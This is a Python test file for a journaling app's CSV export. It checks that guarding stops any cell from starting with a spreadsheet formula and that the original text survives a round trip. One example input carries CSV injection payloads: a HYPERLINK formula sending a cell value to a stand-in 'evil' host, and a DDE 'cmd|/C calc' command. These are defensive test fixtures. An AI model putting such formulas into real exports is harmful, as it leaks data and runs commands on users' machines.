"""Formulas in an export: no cell begins with one, whatever a program takes for the end of a cell, and each text comes back."""

import csv
import io
import json

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from journal.store.portable.cells import cell, of_cell
from journal.store.portable.columns import Field
from journal.store.portable.formulas import SIGNS, guarded, unguarded

TEXT, JSON, NUMBER = Field("note", "text", ""), Field("tags", "json", ""), Field("rpe", "number", "")
# What spreadsheets pass over before a formula.
PASSED = " \t\r\n\v\f\xa0\u200b\u2003\u3000\ufeff\u200f\xad\x01"
HOSTILE = st.text(st.sampled_from(f";,=+-@＝'\"a\u2028\x85{PASSED}"), max_size=12)
ANY = HOSTILE | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)


def cells_as(delimiter, rows):
    """The cells that a program finds that expects this between them: rows of an id, two texts, JSON and a number."""
    lines = ["id,note,title,tags,rpe\n"]
    for number, (one, two, words) in enumerate(rows, 1):
        lines.append(f"p{number},{cell(TEXT, one)},{cell(TEXT, two)},{cell(JSON, words)},{cell(NUMBER, -5.0)}\n")
    return [found for row in csv.reader(io.StringIO("".join(lines), newline=""), delimiter=delimiter) for found in row]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(rows=st.lists(st.tuples(ANY, ANY, st.lists(ANY, max_size=2)), min_size=1, max_size=3))
@example(rows=[("calm;=HYPERLINK(\"http://evil/?\"&A1);\n=cmd|'/C calc'!A0;x", ' ;"=1', [";=1", "\n=1"])])
@example(rows=[("x;", '"=1', ["=1"]), ("\u200b=1", ';""=1', [])])
@settings(max_examples=120, deadline=None)
def test_no_cell_begins_with_a_formula(delimiter, rows) -> None:
    live = [one for one in cells_as(delimiter, rows) if one.lstrip(PASSED).startswith(tuple(SIGNS))]
    assert [one for one in live if one != "-5.0"] == []  # a number is never touched


@given(ANY, ANY)
@example(" \t=1", " '\t'=1")
@example("", "'")
@example(";\n\n '=", ";\n\n =")
@settings(max_examples=300, deadline=None)
def test_each_text_comes_back_and_no_two_are_written_alike(one, two) -> None:
    assert unguarded(guarded(one)) == one and guarded(one)
    assert (guarded(one) == guarded(two)) == (one == two)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1", "'=1"), (" =1+1", " '=1+1"), ("\xa0=1", "\xa0'=1"), ("\u200b=1", "\u200b'=1"), ("a;=1", "a;'=1"), ("a; -5", "a; '-5"),
        ("a\n=1", "a\n'=1"), ("\t=1", "'\t'=1"), ("a\r\n\r\n@b", "a\r\n\r\n'@b"), ('a;"=1', 'a;"\'=1'), ("a;'b", "a;''b"), ("", "'"),
        ("a; b - c", "a; b - c"), ("it's", "it's"), ("a,=1", "a,=1"), ("5 - 3", "5 - 3"),
    ],
)  # fmt: skip
def test_where_a_mark_is_put(text, written) -> None:
    assert guarded(text) == written


def test_json_in_a_cell_says_the_same_to_any_reader_of_json() -> None:
    words = ["a;=1", "\u2028=1", "x\x85y", 'q";']
    (text,) = next(csv.reader([cell(JSON, words)]))
    assert ";" not in text and json.loads(text) == words == of_cell(JSON, text)


def test_a_long_row_of_ends_is_looked_at_once() -> None:
    text = ";" * 200_000 + "x"
    assert guarded(text) == text and unguarded(f"{text}'") == f"{text}'"
